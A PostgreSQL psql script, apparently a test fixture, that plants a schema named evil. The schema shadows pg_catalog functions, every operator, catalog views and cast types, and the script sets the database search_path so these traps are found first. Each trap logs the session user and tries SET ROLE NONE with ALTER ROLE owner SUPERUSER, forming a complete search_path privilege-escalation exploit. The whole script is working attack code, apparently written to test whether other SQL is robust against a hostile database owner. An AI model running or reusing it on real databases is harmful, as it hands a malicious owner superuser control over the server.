-- The traps of the owner of a database, planted by himself: in the schema `evil` of his database, everything that SQL of a stranger
-- could call by name and find there instead of in pg_catalog. Each trap notes who sprang it, and asks for superuser rights in his name.
-- psql variable: words (names that our own SQL calls, in one text).
\set ON_ERROR_STOP on
SELECT pg_catalog.set_config('traps.words', :'words', false) \g /dev/null
SET client_min_messages = error;
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.fired (what text, su text, cu text, at timestamptz DEFAULT pg_catalog.clock_timestamp());
GRANT ALL ON evil.fired TO PUBLIC;
-- The server's log keeps what a failed transaction takes back.
CREATE FUNCTION evil.fire(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
  RAISE LOG 'TRAP % SPRUNG BY %', what, session_user;
  BEGIN
    INSERT INTO evil.fired VALUES (what, session_user, current_user);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $$;
-- Nothing is pinned here: it has the rights of whoever springs it, also of whoever he was when he came.
CREATE FUNCTION evil.rise(what text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
  owner pg_catalog.text := (SELECT n.nspowner::pg_catalog.regrole::pg_catalog.text FROM pg_catalog.pg_namespace n WHERE n.nspname OPERATOR(pg_catalog.=) 'evil'::pg_catalog.name);
BEGIN
  IF session_user::pg_catalog.text OPERATOR(pg_catalog.=) owner THEN RETURN true; END IF;
  PERFORM evil.fire(what);
  BEGIN
    SET ROLE NONE;
    EXECUTE pg_catalog.format('ALTER ROLE %s SUPERUSER', owner);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $$;
CREATE TABLE evil.planted (kind text, name text);

-- Functions of the names that our SQL calls, under every signature that pg_catalog has for them.
DO $$
DECLARE f record; said text;
BEGIN
  FOR f IN SELECT p.oid, p.proname, p.proretset, pg_get_function_identity_arguments(p.oid) AS args, p.prorettype::regtype::text AS ret, p.pronargs
    FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.provariadic = 0 AND p.prokind = 'f'
    AND p.proname = ANY (string_to_array(current_setting('traps.words'), ' '))
  LOOP
    BEGIN
      said := CASE WHEN f.proretset THEN 'NULL' ELSE format('pg_catalog.%I(%s)', f.proname,
        (SELECT string_agg('$' || n, ', ') FROM generate_series(1, f.pronargs) n)) END;
      EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', f.proname, f.args,
        CASE WHEN f.proretset THEN 'record' ELSE f.ret END, format('BEGIN PERFORM evil.rise(%L); RETURN %s; END', 'function ' || f.proname, said));
      INSERT INTO evil.planted VALUES ('function', f.proname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $$;
CREATE FUNCTION evil.counted(int8) RETURNS int8 LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.rise('aggregate count'); RETURN $1 OPERATOR(pg_catalog.+) 1; END $$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.counted, STYPE = int8, INITCOND = '0');
-- Every operator of pg_catalog.
DO $$
DECLARE o record;
BEGIN
  FOR o IN SELECT oprname, oprleft::regtype::text AS l, oprright::regtype::text AS r, oprresult::regtype::text AS ret, oprcode::regproc::text AS code, oprleft
    FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprcode <> 0
  LOOP
    BEGIN
      IF o.oprleft = 0 THEN
        EXECUTE format('CREATE FUNCTION evil."op %s"(%s) RETURNS %s LANGUAGE plpgsql AS %L', o.oprname, o.r, o.ret,
          format('BEGIN PERFORM evil.rise(%L); RETURN OPERATOR(pg_catalog.%s) $1; END', 'operator ' || o.oprname, o.oprname));
        EXECUTE format('CREATE OPERATOR evil.%s (RIGHTARG = %s, FUNCTION = evil."op %s")', o.oprname, o.r, o.oprname);
      ELSE
        EXECUTE format('CREATE FUNCTION evil."op %s"(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', o.oprname, o.l, o.r, o.ret,
          format('BEGIN PERFORM evil.rise(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END', 'operator ' || o.oprname, o.oprname));
        EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil."op %s")', o.oprname, o.l, o.r, o.oprname);
      END IF;
      INSERT INTO evil.planted VALUES ('operator', o.oprname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $$;
-- Tables and views of pg_catalog that our SQL names.
DO $$
DECLARE c record;
BEGIN
  FOR c IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
    AND relname = ANY (string_to_array(current_setting('traps.words'), ' '))
  LOOP
    BEGIN
      EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.rise(%L)', c.relname, c.relname, 'relation ' || c.relname);
      EXECUTE format('GRANT SELECT ON evil.%I TO PUBLIC', c.relname);
      INSERT INTO evil.planted VALUES ('relation', c.relname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $$;
-- Types that casts name: domains whose check is a trap.
DO $$
DECLARE t text;
BEGIN
  FOREACH t IN ARRAY ARRAY['text', 'name', 'int4', 'int8', 'bool', 'oid', 'regclass', 'regnamespace', 'regrole', 'regtype', 'regprocedure', 'json', 'jsonb', 'timestamptz', 'pg_lsn', 'inet']
  LOOP
    EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.rise(%L))', t, t, 'type ' || t);
    INSERT INTO evil.planted VALUES ('type', t);
  END LOOP;
END $$;
-- Where sessions in the database look for names.
SELECT pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog, public', pg_catalog.current_database()) \gexec
SELECT kind, pg_catalog.count(*) FROM evil.planted GROUP BY kind ORDER BY kind;
